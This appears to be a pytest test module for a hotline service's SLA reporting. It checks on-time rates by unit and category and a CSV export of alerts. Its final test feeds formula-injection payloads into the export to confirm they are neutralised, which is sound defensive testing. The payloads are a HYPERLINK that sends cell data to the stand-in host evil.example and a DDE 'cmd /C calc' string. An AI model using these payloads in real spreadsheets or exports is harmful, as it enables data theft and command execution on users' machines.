"""On-time rates counted from clocks built by the real services and the real sweep on
the controllable clock, and the CSV export of the alert list."""
import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from dispatch.workorders import services as work
from hotline.core import clock
from hotline.core.extensions import db
from hotline.sla.engine import services as sla
from hotline.sla.engine.sweep import sweep
from hotline.sla.models import Alert, AlertKind, Stage
from hotline.sla.supervision import reports
from hotline.sla.supervision.schemas import OnTimeQuery
from hotline.tickets import services as tickets
from hotline.tickets.models import Channel, Ticket
from hotline.tickets.schemas import TicketCreate
from hotline.users.models import User

START = datetime(2026, 3, 3, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai"))


def at(minutes: float) -> datetime:
    return START + timedelta(minutes=minutes)


def user(role: str) -> User:
    return db.session.scalar(select(User).where(User.username == role))


def create(unit: str, minute: float, category: str = "repair") -> Ticket:
    """An urgent ticket sent to `unit` at START + minute: 30 minutes to accept."""
    clock.freeze(at(minute))
    t = tickets.create_ticket(
        TicketCreate(category=category, priority="urgent", unit=unit, matter="水表井漏水", caller={"phone": "13800138000"}),
        user("operator"), Channel.PHONE,
    )
    db.session.commit()
    return t


def accept(t: Ticket, minute: float) -> None:
    clock.freeze(at(minute))
    work.advance(t, "accept", user("dispatcher"), t.version)
    db.session.commit()


def sweep_at(minute: float) -> None:
    clock.freeze(at(minute))
    sweep(db.session, clock.now())
    db.session.commit()


@pytest.fixture
def stations(app, users, units):
    """Six urgent repairs (accept within 30 minutes):
    A north, accepted at 10:10: on time.
    F north, extension of 15 minutes approved at 10:05, accepted at 10:35: on time.
    B north, breach swept at 10:31, accepted at 10:40: late.
    C north-crew-1, sent at 10:20, accepted at 10:55 with no sweep in between: late all
      the same (35 minutes used of 30), though no breach was recorded.
    D north, never accepted: running and overdue at 11:00.
    E south, sent at 10:50: running, due at 11:20."""
    with app.app_context():
        a, b, d, f = (create("north", 0) for _ in range(4))
        clock.freeze(at(5))
        ext = sla.request_extension(f, Stage.ACCEPT, 15, "路面需要破拆", user("crew"))
        sla.decide_extension(ext, True, None, user("supervisor"))
        db.session.commit()
        accept(a, 10)
        c = create("north-crew-1", 20)
        sweep_at(23)
        sweep_at(31)
        accept(f, 35)
        accept(b, 40)
        create("south", 50)
        accept(c, 55)
        numbers = {"A": a.number, "B": b.number, "C": c.number, "D": d.number, "F": f.number}
        db.session.commit()  # reading the numbers opened a (writing) transaction: end it
    clock.freeze(at(60))
    yield numbers
    clock.reset()


def report(**params) -> dict:
    return reports.on_time(OnTimeQuery.model_validate(params), clock.now(), "en")


def cell(total, met, late, rate, overdue):
    return {"total": total, "met": met, "late": late, "rate": rate, "overdue": overdue}


def test_on_time_by_unit(app, stations):
    with app.app_context():
        r = report(by="unit")
    assert r["stages"] == ["accept"]  # the resolve clocks (24 h) all still run, none overdue
    assert [(g["key"], g["name"]) for g in r["groups"]] == [("north", "North branch"), ("north-crew-1", "North crew 1")]
    north, crew = r["groups"]
    assert north["stages"] == {"accept": cell(3, 2, 1, 0.6667, 1)}  # A, F on time; B late; D overdue
    assert crew["stages"] == {"accept": cell(1, 0, 1, 0.0, 0)}  # C: late without a recorded breach
    assert r["all"] == {"accept": cell(4, 2, 2, 0.5, 1)}
    assert datetime.fromisoformat(r["from"]) == at(60) - timedelta(days=7)
    assert datetime.fromisoformat(r["to"]) == at(60)


def test_on_time_by_category_and_period(app, stations):
    with app.app_context():
        by_category = report(by="category")
        late_half_hour = report(**{"from": at(38).isoformat(), "to": at(60).isoformat()})
        before = report(**{"to": at(9).isoformat()})
    assert [(g["key"], g["name"], g["stages"]) for g in by_category["groups"]] == [
        ("repair", "Repair", {"accept": cell(4, 2, 2, 0.5, 1)})
    ]
    # Stopped between 10:38 and 11:00: B (late) and C (late); D is overdue whatever the period.
    assert {g["key"]: g["stages"]["accept"] for g in late_half_hour["groups"]} == {
        "north": cell(1, 0, 1, 0.0, 1),
        "north-crew-1": cell(1, 0, 1, 0.0, 0),
    }
    assert {g["key"]: g["stages"]["accept"] for g in before["groups"]} == {"north": cell(0, 0, 0, None, 1)}


def test_on_time_over_the_api_matches(app, api, stations):
    r = api("manager").get("/api/v1/sla/on-time", query_string={"by": "unit"})
    assert r.status_code == 200
    assert r.get_json()["all"] == {"accept": cell(4, 2, 2, 0.5, 1)}
    bad = api("manager").get("/api/v1/sla/on-time", query_string={"from": at(30).isoformat(), "to": at(10).isoformat()})
    assert bad.status_code == 422 and "to" in bad.get_json()["fields"]


# ---- the export ----------------------------------------------------------------------------


def test_csv_export_of_the_filtered_list(app, session_client, stations):
    client, token = session_client("supervisor")
    client.post("/settings", data={"locale": "en", "csrf_token": token})
    with app.app_context():
        first_breach = db.session.scalar(
            select(Alert.id).where(Alert.kind == AlertKind.BREACH).order_by(Alert.id)
        )
        sla.acknowledge_alert(first_breach, user("supervisor"), "已电话催办，班组说5分钟到")
        db.session.commit()
    r = client.get("/sla/alerts.csv?kind=breach&unit=north")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert "attachment" in r.headers["Content-Disposition"]
    raw = r.get_data()
    assert raw.startswith("\ufeff".encode())  # Excel reads the UTF-8 as such
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["Alert", "Kind", "Stage", "Ticket", "Priority", "Category", "Unit", "Due",
                       "Alert time", "Acknowledged", "Acknowledged by", "Comment"]
    body = rows[1:]
    # Swept at 10:31: B and D (F's extension moved its deadline to 10:45; it was accepted at 10:35).
    assert sorted(r[3] for r in body) == sorted([stations["B"], stations["D"]])
    acked = next(r for r in body if r[0] == str(first_breach))
    assert acked[1:3] == ["Breach", "Acceptance"] and acked[4:7] == ["Urgent", "Repair", "North branch"]
    assert acked[7:9] == ["2026-03-03 10:30:00", "2026-03-03 10:31:00"]  # the center's time
    assert acked[9] == "2026-03-03 11:00:00" and acked[10] == "Supervisor One" and acked[11] == "已电话催办，班组说5分钟到"


def test_csv_export_in_chinese_and_bad_filters(app, session_client, stations):
    client, token = session_client("supervisor")
    client.post("/settings", data={"locale": "zh_CN", "csrf_token": token})
    rows = list(csv.reader(io.StringIO(client.get("/sla/alerts.csv?stage=accept").get_data().decode("utf-8-sig"))))
    # Accept alerts: B and D warned at 10:23 and breached at 10:31 (nothing swept after that).
    assert rows[0][3] == "工单" and len(rows) == 1 + 4
    assert client.get("/sla/alerts.csv?kind=alarm").status_code == 422
    assert client.get("/sla/alerts.csv?unit=atlantis").status_code == 422


@pytest.mark.parametrize("comment", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"])
def test_csv_export_neutralises_formulas(app, session_client, stations, comment):
    """A comment a spreadsheet would run as a formula is exported as text (a leading ')."""
    client, _ = session_client("supervisor")
    with app.app_context():
        first_breach = db.session.scalar(select(Alert.id).where(Alert.kind == AlertKind.BREACH).order_by(Alert.id))
        sla.acknowledge_alert(first_breach, user("supervisor"), comment)
        db.session.commit()
    rows = list(csv.reader(io.StringIO(client.get("/sla/alerts.csv?kind=breach").get_data().decode("utf-8-sig"),
                                       newline="")))
    acked = next(r for r in rows if r[0] == str(first_breach))
    assert acked[11] == "'" + comment
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
